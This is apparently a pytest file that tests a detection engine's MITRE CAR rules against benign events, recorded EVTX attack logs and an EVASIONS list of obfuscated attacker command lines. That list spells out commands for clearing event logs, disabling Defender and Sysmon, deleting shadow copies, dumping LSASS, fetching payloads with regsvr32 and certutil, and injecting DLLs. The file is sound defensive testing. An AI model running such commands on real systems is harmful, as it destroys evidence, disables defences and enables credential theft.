"""What CAR's shipped rules are held to beside their examples: evidence, real logs, known faults."""

from __future__ import annotations

import importlib.util
import json
import re
import tarfile
from functools import cache
from pathlib import Path
from typing import Any

import pytest

import carengine
from archives import unpack
from carengine import Engine
from carengine.attack import enterprise_attack
from carengine.readers import read_events

TOP = Path(__file__).parents[1]
SAMPLES = TOP.parent / "shared" / "evtx-attack-samples" / "evtx-attack-samples-a.tar.xz"
RULES = carengine.load_rules(carengine.shipped_rules("car"))
SYSTEM = "C:\\Windows\\System32\\"
NO_REAL_LOG = {"auto", "car"}


def _evidence() -> Any:
    path = TOP / "benchmarks" / "car_evidence.py"
    spec = importlib.util.spec_from_file_location("car_evidence", path)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_rules_have_examples_in_the_shape_of_a_real_log() -> None:
    having = [
        rule.id
        for rule in RULES
        if any(one.match and one.fieldmap not in NO_REAL_LOG for one in rule.examples)
    ]
    assert len(having) >= 60


def test_those_examples_are_events_as_such_logs_have_them() -> None:
    for rule in RULES:
        for example in rule.examples:
            if example.fieldmap in NO_REAL_LOG or not example.name.startswith("as "):
                continue
            for event in example.events:
                text = json.dumps(event)
                assert "EventID" in text or "event_id" in text, rule.id
                assert re.search(r"\w\.brackwater\.example", text), rule.id
                assert re.search(r"2024-\d\d-\d\dT\d\d:\d\d:\d\d\.\d+Z", text), rule.id


def test_a_status_is_what_the_evidence_allows() -> None:
    evidence = _evidence()
    figures = json.loads(evidence.FIGURES.read_text(encoding="utf-8"))
    allowed = evidence.statuses(figures)
    better = {
        rule.id
        for rule in RULES
        if rule.metadata.status == "stable" and allowed[rule.id] != "stable"
    }
    assert better == set()


def test_false_positives_are_stated() -> None:
    assert [rule.id for rule in RULES if not rule.metadata.false_positives] == []


# Lines of issue 18


def process(exe: str, line: str, **more: str) -> dict[str, str]:
    return {
        "object": "process",
        "action": "create",
        "time": "2024-05-01T10:00:00Z",
        "hostname": "WS1",
        "exe": exe,
        "image_path": SYSTEM + exe,
        "command_line": line,
        **more,
    }


def found(rules: Any, events: Any) -> set[str]:
    return {match.rule.id for match in Engine(list(rules)).run(events)}


POLICIES = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System"
UAC = f"reg add {POLICIES} /v EnableLUA /t REG_DWORD /d "
HARMLESS = [
    ("CAR-2014-11-003", process("start.exe", "C:\\apps\\start.exe C:\\apps\\kiosk.exe")),
    ("CAR-2020-08-001", process("powershell.exe", "powershell iwr http://10.0.0.5:8080/")),
    (
        "CAR-2020-08-001",
        process("powershell.exe", "powershell -c dir C:\\Users\\$env:USERNAME\\Desktop"),
    ),
    ("CAR-2020-08-002", process("cmd.exe", "cmd /c curl http://10.0.0.5:8080/")),
    ("CAR-2020-08-002", process("bitsadmin.exe", "bitsadmin /transfer j http://10.0.0.5:8080/ C:\\a")),
    ("CAR-2021-01-008", process("reg.exe", UAC + "0x1", parent_exe="cmd.exe")),
    ("CAR-2021-01-008", process("reg.exe", UAC + "1", parent_exe="cmd.exe")),
    (
        "CAR-2021-12-001",
        process("schtasks.exe", "schtasks /create /tn a /tr D:\\apps\\a.exe D:\\apps\\a.json"),
    ),
    (
        "CAR-2021-12-001",
        process("schtasks.exe", "schtasks /create /tn \\tasks\\a /tr D:\\apps\\a.exe"),
    ),
    ("CAR-2021-05-004", process("bitsadmin.exe", "bitsadmin /list /allusers recreate")),
    ("CAR-2021-05-009", process("certutil.exe", "certutil -dump C:\\decoder\\a.cer")),
    ("CAR-2020-11-007", process("net.exe", "net use x: \\\\srv\\share /user:corp/dora")),
    ("CAR-2021-11-002", process("powershell.exe", "powershell sp HKLM:\\A\\Winlogon -Name Other")),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "event"), HARMLESS)
def test_what_matches_nothing(rule: str, event: dict[str, str]) -> None:
    assert found([RULES[rule]], [event]) == set()


def test_uac_switched_off_is_found() -> None:
    assert found([RULES["CAR-2021-01-008"]], [process("reg.exe", UAC + "0", parent_exe="cmd.exe")])


def test_boots_forty_days_apart_give_one_row() -> None:
    def boot(day: str) -> dict[str, str]:
        return process("smss.exe", "smss.exe", parent_exe="System", time=f"{day}T08:00:00Z")

    def login(day: str) -> dict[str, str]:
        time = f"{day}T09:00:00Z"
        return {
            "object": "user_session",
            "action": "login",
            "time": time,
            "hostname": "WS1",
            "user": "a",
        }

    events = [boot("2024-03-01"), login("2024-03-06"), boot("2024-04-10"), login("2024-04-11")]
    rows = list(Engine([RULES["CAR-2015-07-001"]]).run(events))
    assert [row.as_json()["time"][:10] for row in rows] == ["2024-04-11"]


SAMPLE_FILES = [
    ("DE_1102_security_log_cleared.evtx", "CAR-2016-04-002"),
    ("DE_104_system_log_cleared.evtx", "CAR-2016-04-002"),
    ("sysmon_10_lsass_mimikatz_sekurlsa_logonpasswords.evtx", "CAR-2019-04-004"),
]


@cache
def _unpacked(folder: Path) -> dict[str, Path]:
    with tarfile.open(SAMPLES) as archive:
        wanted = {name for name, _ in SAMPLE_FILES}
        members = [one for one in archive if Path(one.name).name in wanted]
        unpack(archive, folder, members)
    return {path.name: path for path in folder.rglob("*.evtx")}


@pytest.fixture(scope="module")
def samples(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    if not SAMPLES.exists():
        pytest.skip("the EVTX attack samples are not beside the checkout")
    return _unpacked(tmp_path_factory.mktemp("evtx"))


@pytest.mark.parametrize(("name", "rule"), SAMPLE_FILES)
def test_recorded_attacks(samples: dict[str, Path], name: str, rule: str) -> None:
    with read_events(samples[name]) as reading:
        events = [record.event for record in reading]
    assert found([RULES[rule]], events) == {rule}


def test_tactics_are_those_of_the_techniques() -> None:
    attack = enterprise_attack()
    for rule in RULES:
        for technique in rule.metadata.attack:
            for id_ in (technique.id, *technique.subtechniques):
                known = {tactic.id for tactic in attack.tactics_of(id_)}
                assert set(technique.tactics) <= known, (rule.id, id_)


# The same acts in other words, as a reader would try them; `test_spellings` has those that are made.
EVASIONS = [
    ("CAR-2016-03-002", "wmic.exe", 'wmic  /NODE:"10.0.0.9"  process   call\tcreate "cmd /c whoami"'),
    ("CAR-2016-03-002", "wmic.exe", "wmic -node:@hosts.txt process call create calc"),
    ("CAR-2016-04-002", "wevtutil.exe", '"wevtutil"  "clear-log"  Security /bu:C:\\a.evtx'),
    ("CAR-2016-04-002", "pwsh.exe", "pwsh -nop -c \"& {Clear-EventLog -Log 'Security'}\""),
    ("CAR-2016-04-002", "cmd.exe", 'cmd /c erase /f "%SystemRoot%\\System32\\winevt\\Logs\\*"'),
    ("CAR-2019-04-003", "regsvr32.exe", 'regsvr32 -s -n -u -i:http://a.example/x "SCROBJ.DLL"'),
    ("CAR-2019-07-002", "procdump64.exe", 'C:\\t\\procdump64.exe -accepteula /ma "LSASS.exe" a.dmp'),
    ("CAR-2020-08-002", "cmd.exe", 'cmd /c start "" "C:\\Data\\a b.txt:x.exe"'),
    ("CAR-2020-09-003", "fltmc.exe", 'fltMC.exe  "unload"\tSysmonDrv'),
    ("CAR-2020-09-004", "reg.exe", 'reg.exe query "HKEY_LOCAL_MACHINE\\SOFTWARE" -s -f *password*'),
    ("CAR-2020-11-003", "mavinject.exe", "mavinject 1234 -INJECTRUNNING C:\\a.dll"),
    ("CAR-2020-11-005", "pwsh.exe", "pwsh -c ri (Get-PSReadLineOption).HistorySavePath -Force"),
    ("CAR-2020-11-005", "cmd.exe", "cmd /c del %APPDATA%\\Microsoft\\PowerShell\\ConsoleHost_history.txt"),
    ("CAR-2020-11-006", "net1.exe", 'net1  "group" "Domain Admins" /dom'),
    ("CAR-2020-11-007", "net1.exe", "net1 use\t\\\\srv\\share  /del /y"),
    ("CAR-2021-01-003", "wevtutil.exe", '"C:\\Windows\\SysWOW64\\wevtutil.exe" "cl" "System"'),
    ("CAR-2021-01-007", "sc.exe", "sc.exe \\\\localhost config WinDefend start=disabled"),
    ("CAR-2021-01-007", "sc.exe", 'sc "stop"  "WinDefend"'),
    ("CAR-2021-01-009", "vssadmin.exe", 'vssadmin.exe  Delete\tShadows /for=c: /oldest'),
    ("CAR-2021-01-009", "wmic.exe", "wmic path win32_shadowcopy where \"ID='1'\" delete"),
    ("CAR-2021-02-002", "rundll32.exe", 'rundll32.exe "C:\\Windows\\Temp\\ab.dll",a  /p:ab'),
    ("CAR-2021-05-001", "certutil.exe", "certutil -f -user /addstore root ca.cer"),
    ("CAR-2021-05-003", "bcdedit.exe", 'bcdedit -set "{default}" "recoveryenabled" "No"'),
    ("CAR-2021-05-004", "bitsadmin.exe", 'bitsadmin  "/SetNotifyCmdLine" a b NULL'),
    ("CAR-2021-05-006", "certutil.exe", "certutil /f /split /urlcache http://a.example/x"),
    ("CAR-2021-05-008", "certutil.exe", 'certutil "-exportPFX"\tMy a C:\\a.pfx'),
    ("CAR-2021-05-010", "net1.exe", "net1 user /AD bob Passw0rd"),
    ("CAR-2021-11-001", "reg.exe", 'reg ADD "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\Session '
     'Manager" -f -d 0x0 -v SafeDllSearchMode'),
    ("CAR-2021-11-002", "pwsh.exe", "pwsh -c sp -Path 'HKLM:/SOFTWARE/Microsoft/Windows NT/CurrentVersion/"
     "Winlogon' -Name 'Shell' -Value a.exe"),
    ("CAR-2021-12-001", "schtasks.exe", 'schtasks.exe -Create -TN a -TR "%TMP%\\a.exe" -SC daily'),
    ("CAR-2021-12-002", "powershell.exe", "powershell sp 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\"
     "Explorer\\User Shell Folders' -Name:'Common Startup' -Val:C:\\a"),
    ("CAR-2022-03-001", "auditpol.exe", '"auditpol"  -set -category:"System" -success:"disable"'),
    ("CAR-2022-03-001", "sc.exe", 'sc  "config"  eventlog start= disabled'),
    ("CAR-2022-03-001", "wevtutil.exe", 'wevtutil  "set-log" Security "/enabled:false"'),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "exe", "line"), EVASIONS)
def test_what_is_found_in_other_words(rule: str, exe: str, line: str) -> None:
    event = process(exe, line, parent_exe="cmd.exe")
    assert found([RULES[rule]], [event]) == {rule}
